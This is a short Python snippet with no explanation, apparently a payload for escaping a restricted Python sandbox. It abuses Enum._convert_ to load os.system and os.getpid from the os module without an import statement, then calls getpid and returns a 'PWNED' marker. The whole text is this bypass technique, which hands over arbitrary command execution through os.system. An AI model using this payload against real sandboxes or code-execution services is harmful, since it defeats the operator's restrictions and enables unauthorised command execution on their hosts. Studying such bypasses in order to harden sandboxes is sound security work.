from enum import Enum


class E(Enum):
    pass


X = E._convert_("X", "os", lambda name: name in ("system", "getpid"))
return "PWNED " + repr(X.getpid.value())
